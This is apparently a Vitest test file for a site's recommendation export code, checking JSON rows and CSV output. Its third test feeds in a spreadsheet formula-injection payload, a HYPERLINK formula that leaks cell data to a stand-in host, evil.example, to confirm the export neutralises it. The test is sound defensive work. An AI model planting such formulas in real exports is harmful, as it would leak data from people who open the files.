import { describe, expect, it } from 'vitest';
import { z } from 'astro/zod';
import { CSV_COLUMNS, RecommendationsExport, recommendationRows, toCsv } from '../../src/lib/exports';
import { buildSiteModel } from '../../src/graph/graph';
import { createRoutes } from '../../src/lib/urls';
import { actor, briefing, content, recommendation, tag } from '../support/content';

const site = buildSiteModel(
  content({
    briefings: [briefing('a', { citedSources: [{ id: 'report', name: 'A report', description: 'd' }] }), briefing('b')],
    recommendations: [
      recommendation('a-one', 'a', {
        title: 'Say "no", firmly',
        actors: [{ id: 'iraq' }],
        related: [{ recommendation: { id: 'b-one' }, relation: 'extends', note: 'Builds on it.' }],
      }),
      recommendation('a-two', 'a', { order: 2, proposer: 'report' }),
      recommendation('b-one', 'b'),
    ],
    tags: [tag('sanctions', 'Sanctions')],
    actors: [actor('iraq', 'Iraq')],
  }),
);

describe('exports', () => {
  const rows = recommendationRows(site, 'https://example.org', createRoutes('/sub/'));

  it('lists every recommendation with permalink, briefing, analyst, proposer, tags, actors and relations', () => {
    expect(rows.map((r) => r.id)).toEqual(['a-one', 'a-two', 'b-one']);
    expect(rows[0]).toEqual({
      id: 'a-one',
      permalink: 'https://example.org/sub/recommendations/a-one/',
      title: 'Say "no", firmly',
      summary: 'Do something.',
      briefing: { id: 'a', title: 'Briefing a', url: 'https://example.org/sub/briefings/a/' },
      analyst: 'Analyst of a',
      proposer: 'Analyst of a',
      tags: [{ id: 'sanctions', label: 'Sanctions' }],
      actors: [{ id: 'iraq', label: 'Iraq' }],
      relations: [{ recommendation: 'b-one', relation: 'Extends', note: 'Builds on it.' }],
    });
    expect(rows[1]?.proposer).toBe('A report');
    expect(rows[2]?.relations).toEqual([{ recommendation: 'a-one', relation: 'Extended by', note: 'Builds on it.' }]);
    expect(() => RecommendationsExport.parse({ $schema: 'x', site: 'S', recommendations: rows })).not.toThrow();
    expect(z.toJSONSchema(RecommendationsExport)).toMatchObject({ type: 'object', required: ['$schema', 'site', 'recommendations'] });
  });

  it('writes the same rows as CSV, quoting what needs quoting', () => {
    const lines = toCsv(rows).split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines).toHaveLength(rows.length + 2);
    expect(lines[1]).toContain('"Say ""no"", firmly"');
    expect(lines[1]).toContain('"Extends b-one"');
    expect(lines.at(-1)).toBe('');
  });

  it('neutralises CSV cells a spreadsheet would run as formulas, keeping the JSON text exact', () => {
    const payload = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    const hostile = buildSiteModel(
      content({
        briefings: [briefing('a')],
        recommendations: [recommendation('a-one', 'a', { title: payload, summary: ' @SUM(1+1)', tags: [{ id: 'sanctions' }, { id: 'evil' }] })],
        tags: [tag('sanctions', 'Sanctions'), tag('evil', '-2+3')],
      }),
    );
    const [row] = recommendationRows(hostile, 'https://example.org');
    expect(row?.title).toBe(payload);
    expect(row?.summary).toBe(' @SUM(1+1)');
    const line = toCsv(row ? [row] : []).split('\r\n')[1];
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(line).toContain(`"' @SUM(1+1)"`);
    expect(line).toContain(`"Sanctions; '-2+3"`);

    const cell = (title: string) =>
      toCsv([{ ...rows[1]!, title }])
        .split('\r\n')[1]
        ?.split(',')[2];
    for (const start of ['=', '+', '-', '@', '\t', '\r', ' =', '\t=', '\u00a0+']) expect(cell(`${start}1`)).toBe(`"'${start}1"`);
    expect(toCsv([rows[1]!]).split('\r\n')[1]).toBe(
      '"a-two","https://example.org/sub/recommendations/a-two/","Recommendation a-two","Do something.","a","Briefing a","Analyst of a","A report","Sanctions","",""',
    );
    for (const ordinary of ['Cut aid', 'Aid = leverage', 'e-mail @ once', "'quoted", ' indented']) expect(cell(ordinary)).toBe(`"${ordinary}"`);
  });
});
